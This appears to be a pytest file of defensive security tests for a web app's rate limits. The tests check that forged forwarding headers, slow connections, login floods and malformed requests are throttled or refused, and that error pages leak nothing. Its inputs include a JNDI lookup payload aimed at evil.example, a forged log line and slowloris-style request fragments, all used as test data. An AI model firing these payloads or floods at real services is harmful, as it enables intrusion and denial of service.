"""R: rate limits, slow and large requests, and the answers of those refused."""

import json
import logging
import socket
import time
from concurrent.futures import ThreadPoolExecutor

import pytest

from accounts.rate_limits import client_ip
from tests.attacks.attacker import assert_no_insides, assert_problem, cases

BAD = {"Authorization": "Bearer x"}
VALIDATE, GUESS = "/api/tickets/validate", {"ticket_code": "0" * 26}


@cases(
    "name",
    [
        ("R01", "X-Forwarded-For", "X_Forwarded_For"),
        ("R01", "X-Real-IP", "X_Real_IP"),
        ("R01", "Forwarded", "Forwarded"),
        ("R01", "X-Client-IP", "X_Client_IP"),
        ("R01", "CF-Connecting-IP", "CF_Connecting_IP"),
        ("R01", "True-Client-IP", "True_Client_IP"),
    ],
)
def test_claiming_to_be_somebody_else(someone, name):
    """No proxy of ours is configured, so what a header says is what the sender says."""
    said = []
    for number in range(22):
        claim = f"for=192.0.2.{number}" if name == "Forwarded" else f"192.0.2.{number}"
        said.append(someone.post(VALIDATE, GUESS, **{name: claim}).status)
    assert said == [200] * 20 + [429] * 2


def test_claiming_by_an_underscore(someone):
    """R01: X_Forwarded_For, which some servers read as X-Forwarded-For."""
    body, said = json.dumps(GUESS).encode(), []
    for number in range(22):
        head = (
            f"POST {VALIDATE} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            f"X_Forwarded_For: 192.0.2.{number}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        )
        said.append(someone.raw(head.encode() + body).status)
    assert said == [200] * 20 + [429] * 2 or said == [400] * 22


def test_claiming_on_a_page(shop, someone):
    """R01: the page's limit is the same one."""
    browser = someone.browser()
    said = []
    for number in range(8):
        browser.headers["X-Forwarded-For"] = f"192.0.2.{number}"
        answer = browser.submit(
            "/accounts/login/", login=f"{number}-{someone.address}@example.com", password="wrong"
        )
        said.append(answer.status_code)
    assert said == [200] * 6 + [429] * 2


def test_fifty_bad_tokens(shop, someone):
    """R02: on a public address too; a good token still opens."""
    said = [someone.get("/api/events", **BAD) for _ in range(52)]
    assert [answer.status for answer in said] == [401] * 50 + [429] * 2
    assert_problem(said[-1], 429, "throttled")
    assert someone.get("/api/users/me", token=shop.owner.token).status == 200
    assert someone.get("/api/events").status == 200


def test_two_processes_count_together(shop, someone):
    """R03: of sixty at once over all processes exactly fifty are let through to be refused."""
    with ThreadPoolExecutor(12) as pool:
        said = list(pool.map(lambda _: someone.get("/api/events", **BAD).status, range(60)))
    assert sorted(said) == [401] * 50 + [429] * 10


@cases(
    "remote same",
    [
        ("R04", "another host of the same /64", "2001:db8:1:2:ffff::9", True),
        ("R04", "the next /64", "2001:db8:1:3::1", False),
        ("R04", "an IPv4 in IPv6", "::ffff:192.0.2.1", False),
    ],
)
def test_an_ipv6_network_is_one(rf, remote, same):
    first, second = (client_ip(rf.get("/", REMOTE_ADDR=one)) for one in ("2001:db8:1:2::1", remote))
    assert (first == second) is same


@cases(
    "claim",
    [
        ("R05", "5 KB", "1" * 5000),
        ("R05", "not ASCII", "192.0.2.1, ä"),
        ("R05", "a hundred hops", ", ".join(["192.0.2.1"] * 100)),
        ("R05", "a line of a log", "192.0.2.1 - - [22/Nov/2026] admin logged in"),
        ("R05", "JNDI", "${jndi:ldap://evil.example/a}"),
    ],
)
def test_a_claim_of_nonsense(shop, someone, claim):
    answer = someone.get("/api/events", X_Forwarded_For=claim)
    assert answer.status == 200
    assert claim[:40] not in shop.stack.web.log.read_text() or claim.startswith("192.0.2.1,")


def test_a_claim_of_nonsense_behind_a_proxy(rf, settings, caplog):
    """R05: with a proxy of ours, whatever it sends on is one address or none."""
    settings.TRUSTED_PROXIES = 1
    for claim in ("1" * 5000, "ä", "", ",,,,", "192.0.2.1:80", "[::1]:80", "unknown"):
        ip = client_ip(rf.get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR=claim))
        assert len(ip) < 50
    assert [record for record in caplog.records if record.levelno >= logging.WARNING] == []


def test_too_often_is_said_to_people_and_programs(shop, someone):
    """R06"""
    for number in range(7):
        body = {"email": f"{number}-{someone.address}@example.com", "password": "wrong"}
        answer = someone.post("/api/users/login", body)
    assert_problem(answer, 429, "throttled")
    page = someone.browser().submit("/accounts/login/", login="r06@example.com", password="wrong")
    assert page.status_code == 429
    assert int(page.headers["Retry-After"]) > 0
    assert "<title>" in page.text
    assert_no_insides(page)


def test_costly_pages(shop, someone):
    """R14: papers and pictures are drawn for whoever asks; a network has so many a minute."""
    picture = f"/share/{shop.event}.jpg"
    ticket = shop.buy(event=shop.free)["tickets"][0]["ticket_id"]
    paper = f"/tickets/{shop.stack.django('Ticket.objects.get(pk=pk).token', pk=ticket)}/ticket.pdf"
    with ThreadPoolExecutor(8) as pool:
        said = list(pool.map(lambda n: someone.get([picture, "/sitemap.xml"][n % 2]).status, range(118)))
    assert said == [200] * 118
    answers = [someone.get(paper) for _ in range(4)]
    assert [answer.status for answer in answers] == [200] * 2 + [429] * 2
    assert int(answers[-1].headers["Retry-After"]) > 0
    assert_no_insides(answers[-1])
    assert [someone.get(path).status for path in (picture, "/sitemap.xml", "/")] == [429, 429, 200]
    assert [shop.attacker().get(path).status for path in (picture, paper)] == [200, 200]


# -- slow and many ----------------------------------------------------------------------------------
@cases(
    "start",
    [
        ("R07", "headers that never end", b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: "),
        ("R07", "a body that never comes", b"POST /api/users/login HTTP/1.1\r\nHost: localhost\r\n"
                b"Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{"),
        ("R07", "nothing at all", b""),
    ],
)  # fmt: skip
def test_a_hundred_slow_connections(shop, someone, start):
    slow: list[socket.socket] = []
    try:
        for _ in range(100):
            slow.append(shop.attacker().connect())
            slow[-1].sendall(start)
        started = time.monotonic()
        assert [someone.get("/").status for _ in range(3)] == [200] * 3
        assert time.monotonic() - started < 6
    finally:
        for sock in slow:
            sock.close()


def test_two_hundred_sign_ins_at_once(shop):
    """R08: few are hashed at a time, the others wait a little or are told when to come again; pages go on.

    Forty on SQLite: there every sign-in that is counted waits for the one before it to reach the disk.
    """
    wave = 200 if shop.stack.database_url.startswith("postgres") else 40
    bodies = [{"email": f"r08-{number}@example.com", "password": "wrong"} for number in range(wave)]
    with ThreadPoolExecutor(wave) as pool:
        waiting = [pool.submit(shop.attacker().post, "/api/users/login", body) for body in bodies]
        took = []
        while len(took) < 5 or not all(each.done() for each in waiting):
            started = time.monotonic()
            assert shop.attacker().get(f"/events/{shop.slug}").status == 200
            took.append(time.monotonic() - started)
        said = [each.result() for each in waiting]
    for answer in said:
        if answer.status == 503:
            assert_problem(answer, 503, "unavailable")
        else:
            assert_problem(answer, 401, "invalid_credentials")
    assert sum(answer.status == 401 for answer in said) >= 8
    assert sorted(took)[len(took) * 19 // 20 - 1] < 3


@pytest.mark.parametrize("path", ["/health", "/health/live"], ids=lambda path: f"R09 {path}")
def test_health_tells_no_secret(someone, path):
    answer = someone.get(path)
    words = {word for value in answer.json().values() for word in [value]}
    assert words <= {"ok", "unwell", "silent", "down", "missing", "unknown"}
    assert_no_insides(answer)


@cases(
    "method path status",
    [
        ("R10", "a page", "GET", "/nothing-here", 404),
        ("R10", "a page's method", "DELETE", "/", 403),
        ("R10", "the API", "GET", "/api/nothing-here", 404),
        ("R10", "the API's method", "DELETE", "/api/events", 405),
        ("R10", "the admin", "GET", "/admin/nothing-here/", 302),
        ("R10", "a page's bad address", "GET", "/%00", 400),
        ("R10", "static", "GET", "/static/nothing-here.css", 404),
    ],
)  # fmt: skip
def test_errors_tell_nothing_of_our_insides(someone, method, path, status):
    answer = someone.send(method, path)
    assert answer.status == status
    assert_no_insides(answer)
    for word in ("DEBUG", "urlpatterns", "Request Method", "gunicorn", "Python", "/work", "site-packages"):
        assert word not in answer.text
    assert "python" not in answer.headers.get("Server", "").lower()
